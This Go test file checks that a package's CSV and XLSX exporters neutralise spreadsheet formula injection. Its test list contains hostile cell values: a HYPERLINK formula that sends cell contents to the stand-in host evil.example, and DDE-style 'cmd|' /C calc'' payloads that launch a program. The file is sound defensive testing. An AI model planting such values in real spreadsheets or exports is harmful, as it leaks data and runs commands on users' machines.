package http

import (
	"bytes"
	"testing"

	"github.com/xuri/excelize/v2"
)

var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// CSV: every formula-looking value is quoted, including those that hide
// the = behind a tab or carriage return; numbers stay numbers.
func TestCSVFormulaEscaping(t *testing.T) {
	for _, v := range hostile {
		if got := csvSafe(v); got != "'"+v {
			t.Errorf("%q exported as %q", v, got)
		}
	}
	for _, v := range []string{"-5", "+3.5", "张三", "a=b", ""} {
		if got := csvSafe(v); got != v {
			t.Errorf("%q changed to %q", v, got)
		}
	}
}

// XLSX: the same values are text cells holding exactly what was sent: no
// formula, no apostrophe.
func TestXLSXCellsAreText(t *testing.T) {
	f, err := workbook([]string{"id", "note"}, [][]string{{"p1", hostile[0]}, {"p2", hostile[4]}, {"p3", "00123"}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	f.Close()
	g, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	for cell, want := range map[string]string{"B2": hostile[0], "B3": hostile[4], "B4": "00123"} {
		v, _ := g.GetCellValue("Sheet1", cell)
		if v != want {
			t.Errorf("%s = %q, want %q", cell, v, want)
		}
		if fm, _ := g.GetCellFormula("Sheet1", cell); fm != "" {
			t.Errorf("%s holds a formula %q", cell, fm)
		}
		typ, _ := g.GetCellType("Sheet1", cell)
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s is of type %v, not a string", cell, typ)
		}
		style, _ := g.GetCellStyle("Sheet1", cell)
		st, _ := g.GetStyle(style)
		if st == nil || st.NumFmt != 49 {
			t.Errorf("%s is not in the text format: %+v", cell, st)
		}
	}
}
